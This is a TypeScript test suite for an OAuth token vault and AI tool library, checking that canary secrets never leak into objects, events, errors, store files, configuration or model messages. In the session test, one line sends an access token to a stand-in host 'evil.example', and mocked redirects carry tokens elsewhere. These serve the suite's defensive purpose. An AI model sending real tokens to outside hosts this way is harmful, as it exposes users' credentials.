// No secret in any output, part two: what is kept and what acts. Vault, sessions, tools, configuration: their objects,
// events and errors, the files of the store, and everything that a model is sent.
import { randomBytes } from 'node:crypto'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { DatabaseSync } from 'node:sqlite'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { z } from 'zod'
import { loadConfig } from '../src/config/index.ts'
import { loopback } from '../src/flows/index.ts'
import { authorizationUrl, refreshingTokens, Session, TokenSet } from '../src/oauth/index.ts'
import type { ProviderFacts } from '../src/providers/index.ts'
import { Toolbox, tool } from '../src/tools/index.ts'
import { givenKey, keyFile, Vault, type VaultOptions } from '../src/vault/index.ts'
import { careless, isPlatformObject } from './canary/careless.ts'
import { echoes } from './canary/echo.ts'
import { Evidence } from './canary/search.ts'
import { canaryStage, listenToProcess, thrown } from './canary/stage.ts'

const stage = canaryStage()
const ada = { user: 'ada', provider: 'acme' }
const key = randomBytes(32)
let folder: string
let files = 0

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'toolgrant-canary-'))
  stage.keep('the vault key in base64', key.toString('base64'))
  stage.keep('the vault key in hexadecimal', key.toString('hex'))
  stage.keep('the vault key in bytes', key.toString('latin1'))
})
afterAll(() => rm(folder, { recursive: true, force: true }))

/** A clock that waiting moves, so that nobody waits. */
function impatient(): Pick<VaultOptions, 'now' | 'sleep'> {
  let passed = 0
  const sleep = async (ms: number) => {
    passed += ms
    await new Promise((resolve) => setImmediate(resolve))
  }
  return { now: () => Date.now() + passed, sleep }
}

const newPath = () => join(folder, `${++files}`, 'vault.db')

function openVault(evidence: Evidence, options: VaultOptions = {}): Promise<Vault> {
  return Vault.open({
    ...{ url: newPath(), key, random: () => 0 },
    clients: { acme: { ...stage.client(), provider: stage.provider() } },
    onEvent: (event) => evidence.value(`the event ${event.type}`, event),
    ...options,
  })
}

/** @param secondsLeft of the access token's life. */
function granted(secondsLeft = 3600, scopes = ['read']): TokenSet {
  const { accessToken, refreshToken } = stage.server.grant({ scopes })
  const now = Date.now()
  const receivedAt = new Date(now - 3_600_000)
  const expiresAt = new Date(now + secondsLeft * 1000)
  const raw = { access_token: accessToken, refresh_token: refreshToken }
  return new TokenSet({
    accessToken,
    refreshToken,
    scopes,
    receivedAt,
    expiresAt,
    raw,
    extra: { webhook: accessToken },
  })
}

describe('a vault', () => {
  it('shows no secret in its objects, events and files while it is used', async () => {
    const evidence = new Evidence()
    const stop = listenToProcess(evidence)
    const vault = await openVault(evidence)
    evidence.value('the vault', vault)
    evidence.value('a connection', await vault.save(ada, granted()))
    await vault.save({ ...ada, user: 'bob' }, granted(-1))
    await vault.save({ ...ada, user: 'eve', account: 'work' }, granted(100))
    for (const user of ['ada', 'bob', 'eve']) {
      evidence.value('a token set', await vault.token({ ...ada, user }))
      evidence.value('a source', vault.source({ ...ada, user }))
      evidence.value('a token set of a source', await vault.source({ ...ada, user }).token())
    }
    evidence.value('a registration', await vault.registration('acme'))
    const client = stage.client()
    const { url, pending } = await authorizationUrl(stage.provider(), client, {
      ...{ redirectUri: 'http://127.0.0.1/', scopes: 'read openid', user: 'carol' },
    })
    evidence.show(url)
    await vault.putPending(pending)
    await evidence.folder('the store with a pending authorization', folder)
    evidence.value('a finished authorization', await vault.finish(await stage.server.consent(url)))
    evidence.error('a replay', await thrown(async () => vault.finish(await stage.server.consent(url))))
    evidence.value('the connections', await vault.connections())
    await evidence.folder('the store in use', folder)
    evidence.value('a disconnection', await vault.disconnect({ ...ada, user: 'bob' }))
    await vault.close()
    evidence.error('a closed vault', await thrown(() => vault.token(ada)))
    await evidence.folder('the closed store', folder)
    stop()
    expect(evidence.places.filter((place) => place.endsWith('-wal'))).not.toEqual([])
    for (const type of ['connected', 'refreshed', 'revoked'])
      expect(evidence.places).toContain(`JSON of the event ${type}`)
    expect(stage.leaks(evidence)).toEqual([])
  })

  it.each(Object.entries(echoes))(
    'shows none when a refresh, a revocation or a finish is answered with %s',
    async (_name, echo) => {
      const evidence = new Evidence()
      const vault = await openVault(evidence, { url: 'memory:', ...impatient() })
      await vault.save(ada, granted(-1))
      await vault.save({ ...ada, user: 'bob' }, granted())
      const { url, pending } = await authorizationUrl(stage.provider(), stage.client(), {
        ...{ redirectUri: 'http://127.0.0.1/', user: 'carol' },
      })
      await vault.putPending(pending)
      const callback = await stage.server.consent(url)
      evidence.show(url)
      stage.proxy.echo = echo
      for (const call of [() => vault.token(ada), () => vault.finish(callback)])
        evidence.error('a failure', await call().catch((error: unknown) => error))
      evidence.value('a disconnection', await vault.disconnect({ ...ada, user: 'bob' }))
      stage.proxy.echo = undefined
      evidence.value('the connections', await vault.connections())
      await vault.close()
      expect(stage.leaks(evidence)).toEqual([])
    },
  )

  it('shows none when its key, its file or its place is wrong', async () => {
    const evidence = new Evidence()
    const url = newPath()
    const vault = await openVault(evidence, { url })
    await vault.save(ada, granted())
    await vault.close()
    const other = stage.keep('another key', randomBytes(32).toString('base64'))
    const short = stage.keep('a key that is none', `${key.toString('base64')}x`)
    const password = stage.keep('a password', `canary-${crypto.randomUUID()}`)
    const keyPath = join(folder, 'vault.key')
    await writeFile(keyPath, short, { mode: 0o600 })
    const wrong: VaultOptions[] = [
      { url, key: other },
      { url, key: short },
      { url, key: keyFile(keyPath) },
    ]
    wrong.push(
      { url, env: { TOOLGRANT_KEY: short }, key: undefined },
      { url: `postgres://ada:${password}@db/x` },
    )
    for (const options of wrong)
      evidence.error('a failed opening', await thrown(() => openVault(evidence, options)))
    for (const provider of [givenKey(other), keyFile(keyPath)]) evidence.value('a key provider', provider)
    evidence.value('a loaded key', await givenKey(key).load({}))
    const database = new DatabaseSync(url)
    database.exec("UPDATE connection SET user = 'mallory'")
    database.close()
    const altered = await openVault(evidence, { url })
    evidence.error('an altered row', await thrown(() => altered.token({ ...ada, user: 'mallory' })))
    evidence.value('what is left of it', await altered.disconnect({ ...ada, user: 'mallory' }))
    await altered.close()
    await evidence.folder('the stores', folder, (name) => name === 'vault.key')
    expect(stage.leaks(evidence)).toEqual([])
  })
})

describe('a session', () => {
  const placements: Record<string, Partial<ProviderFacts>> = {
    'in the header': {},
    'in the query': { accessTokenQueryParam: 'access_token' },
    'in a header of its own': { accessTokenHeader: 'X-Token' },
  }

  it.each(Object.entries(placements))('with the token %s shows none in an error', async (_name, facts) => {
    const evidence = new Evidence()
    const { accessToken, refreshToken } = granted()
    const provider = stage.provider({ ...facts, apiBaseUrl: `${stage.proxy.origin}/api` })
    const unreachable = stage.provider({ ...facts, apiBaseUrl: 'http://127.0.0.1:1/' })
    const tokens = new TokenSet({ accessToken, refreshToken })
    const session = new Session(tokens, { provider })
    const refreshed = new Session(refreshingTokens(provider, stage.client(), tokens), { provider })
    const expired = new Session(tokens.with({ expiresAt: new Date(0) }), { provider })
    stage.proxy.echo = ({ url, headers }) => ({
      status: 401,
      headers: {
        'www-authenticate': `Bearer error="invalid_token", error_description="${headers.authorization}"`,
      },
      body: { url, headers },
    })
    evidence.error('a 401', await thrown(() => session.fetch('/me')))
    evidence.error('a 401 and a refused refresh', await thrown(() => refreshed.fetch('/me')))
    evidence.error('an expired token', await thrown(() => expired.fetch('/me')))
    evidence.error(
      'a foreign host',
      await thrown(() => session.fetch(`https://evil.example/?t=${accessToken}`)),
    )
    evidence.error(
      'nobody there',
      await thrown(() => new Session(tokens, { provider: unreachable }).fetch('/me')),
    )
    stage.proxy.echo = ({ url, headers }) => ({
      status: 302,
      headers: {
        location: `http://localhost:1${url}&t=${headers.authorization?.slice(7) ?? headers['x-token']}`,
      },
    })
    evidence.error('a redirect elsewhere', await thrown(() => session.fetch('/me?a=1')))
    stage.proxy.echo = ({ url }) => ({ status: 302, headers: { location: url } })
    evidence.error('a circle', await thrown(() => session.fetch('/me')))
    stage.proxy.echo = () => ({ status: 302, headers: { location: `ftp://x/${accessToken}` } })
    evidence.error('a redirect to another scheme', await thrown(() => session.fetch('/me')))
    stage.proxy.echo = () => (response) => response.socket?.destroy()
    evidence.error('a cut connection', await thrown(() => session.fetch('/me')))
    stage.proxy.echo = undefined
    expect(stage.leaks(evidence)).toEqual([])
  })
})

describe('tools', () => {
  it('send no secret to a model, a listener or a log, whatever they do', async () => {
    const evidence = new Evidence()
    const stop = listenToProcess(evidence)
    const vault = await openVault(evidence)
    const input = z.object({ how: z.string() })
    const auth = { provider: 'acme', scopes: ['read'] }
    const leaky = tool({
      name: 'leaky',
      description: 'Does what tools must not.',
      ...{ input, auth },
      run: async ({ how }, { auth: access, env, fetch, ...rest }) => {
        const token = await access.token()
        evidence.value('the context of a tool', { access, rest, env })
        await fetch('/me')
        return careless[how]?.(token)
      },
    })
    const flow = loopback({
      openBrowser: false,
      onEvent: (event) => evidence.text('a flow event', event.type),
    })
    const onEvent = (event: unknown) => evidence.value('a toolbox event', event)
    const toolbox = new Toolbox({ vault, tools: [leaky], flow, onEvent })
    const mine = toolbox.for({ user: 'ada', thread: 't' })
    const call = (how: string, id = 'call_1') => ({
      choices: [
        {
          message: {
            role: 'assistant',
            content: null,
            tool_calls: [
              {
                id,
                type: 'function' as const,
                function: { name: 'leaky', arguments: JSON.stringify({ how }) },
              },
            ],
          },
        },
      ],
    })
    const asked = await mine.answerOpenAI(call('returns it'))
    for (const { url } of asked.required) evidence.show(url)
    evidence.value('the paused answer', asked)
    const paused = await mine.tryCall('leaky', { how: 'returns it' })
    evidence.value('the paused outcome', paused)
    evidence.error('the error of the pause', paused.error)
    expect((await stage.server.browse(asked.required[0]?.url ?? '')).status).toBe(200)

    evidence.value('the toolbox', toolbox)
    evidence.value('the toolbox of a user', mine)
    evidence.value('a tool', leaky)
    for (const schema of [mine.openai(), mine.anthropic(), mine.gemini(), mine.openaiResponses()])
      evidence.value('the schemas', schema)
    for (const how of Object.keys(careless)) {
      const openai = await mine.answerOpenAI(call(how))
      const anthropic = await mine.answerAnthropic({
        content: [{ type: 'tool_use', id: 'toolu_1', name: 'leaky', input: { how } }],
      })
      const gemini = await mine.answerGemini({
        candidates: [
          { content: { role: 'model', parts: [{ functionCall: { name: 'leaky', args: { how } } }] } },
        ],
      })
      for (const answer of [openai, anthropic, gemini]) {
        evidence.text(`the model's messages when a tool ${how}`, JSON.stringify(answer.messages))
        if (!isPlatformObject(how)) evidence.value(`the answer when a tool ${how}`, answer)
      }
      const outcome = await mine.tryCall('leaky', { how })
      if (!isPlatformObject(how)) evidence.value(`the outcome when a tool ${how}`, outcome)
      evidence.error(`the error when a tool ${how}`, outcome.error)
      if (how.startsWith('throws')) expect(outcome).toMatchObject({ ok: false })
      else if (!isPlatformObject(how)) expect(JSON.stringify(openai.messages)).toContain('[redacted]')
    }
    await toolbox.close()
    await vault.close()
    stop()
    expect(evidence.places).toContain('JSON of a toolbox event')
    expect(evidence.places).not.toContain('stdout')
    expect(stage.leaks(evidence)).toEqual([])
  })

  it.each(Object.entries(echoes))(
    'show none when the token endpoint answers with %s',
    async (_name, echo) => {
      const evidence = new Evidence()
      const vault = await openVault(evidence, { url: 'memory:', ...impatient() })
      await vault.save(ada, granted(-1))
      const whoami = tool({
        name: 'whoami',
        description: 'Says who I am.',
        input: z.object({}),
        auth: { provider: 'acme', scopes: ['read'] },
        run: async (_, { fetch }) => (await fetch('/me')).json(),
      })
      const flow = loopback({
        openBrowser: false,
        onEvent: (event) => evidence.text('a flow event', event.type),
      })
      const onEvent = (event: unknown) => evidence.value('a toolbox event', event)
      const toolbox = new Toolbox({ vault, tools: [whoami], flow, onEvent })
      const bob = toolbox.for({ user: 'bob' })
      const [consent] = await bob.authorize()
      evidence.show(consent?.url)
      stage.proxy.echo = echo
      const waiting = thrown(() => bob.wait({ timeoutMs: 5_000 }))
      evidence.text('the page', (await stage.server.browse(consent?.url ?? '')).body)
      evidence.error('a failed consent', await waiting)
      for (const each of [toolbox.for({ user: 'ada' }), bob]) {
        const outcome = await each.tryCall('whoami', {})
        if (outcome.paused) for (const { url } of outcome.required) evidence.show(url)
        evidence.value('an outcome', outcome)
        evidence.error('an error', outcome.error)
      }
      stage.proxy.echo = undefined
      await toolbox.close()
      await vault.close()
      expect(stage.leaks(evidence)).toEqual([])
    },
  )
})

describe('a configuration', () => {
  const secret = stage.keep('a secret of a file', `canary-${crypto.randomUUID()}`)
  const provider = `[providers.acme]\nauthorization_url = "https://acme.example/a"\ntoken_url = "https://acme.example/t"\n`
  const base = `${provider}[auth.acme]\nclient_id = "me"\n`

  it.each([
    ['that is sound', `[auth.acme]\nclient_secret = "${secret}"\n`],
    ['with a text that is not closed', `[auth.acme]\nclient_secret = "${secret}\n`],
    ['with a text that is not quoted', `[auth.acme]\nclient_secret = ${secret}\n`],
    ['with a key twice', `[auth.acme]\nclient_secret = "${secret}"\nclient_secret = "${secret}"\n`],
    ['with a name that nothing reads', `[auth.acme]\nclient_secrt = "${secret}"\n`],
    ['with the wrong type', `[auth.acme]\nclient_secret = ["${secret}"]\n`],
    ['with a section that is none', `[auth]\nacme = "${secret}"\n`],
    ['with a method that is the secret', `[auth.acme]\ntoken_endpoint_auth_method = "${secret}"\n`],
    ['with a scope that is the secret', `[auth.acme]\nscopes = "${secret}"\nclient_secret = "${secret}"\n`],
    ['with a vault that has a password', `[vault]\nurl = "postgres://ada:${secret}@db/x"\n`],
    ['with a port that is the secret', `[callback]\nport = "${secret}"\n`],
    [
      'with a provider that holds it',
      `[providers.beta]\ntoken_url = "https://ada:${secret}@beta.example/t"\n`,
    ],
  ])('%s shows none', async (_name, text) => {
    const evidence = new Evidence()
    const cwd = await mkdtemp(join(folder, 'config-'))
    await writeFile(join(cwd, 'toolgrant.toml'), base)
    await writeFile(join(cwd, '.secrets.toml'), text, { mode: 0o644 })
    const onWarning = (message: string) => evidence.text('a warning', message)
    const outcome = await loadConfig({ cwd, env: {}, onWarning }).catch((error: unknown) => error)
    evidence.error('the configuration', outcome)
    if (outcome instanceof Error) expect(outcome).toMatchObject({ code: 'config_invalid' })
    else if (typeof outcome === 'object' && outcome !== null && 'registration' in outcome) {
      const config = outcome as Awaited<ReturnType<typeof loadConfig>>
      evidence.error('a registration', await config.registration('acme').catch((error: unknown) => error))
      evidence.error('missing keys', await config.missing('acme').catch((error: unknown) => error))
      evidence.error(
        'a vault',
        await Vault.open({ clients: config, ...config.vault, key }).catch((error: unknown) => error),
      )
    }
    expect(stage.leaks(evidence)).toEqual([])
  })
})
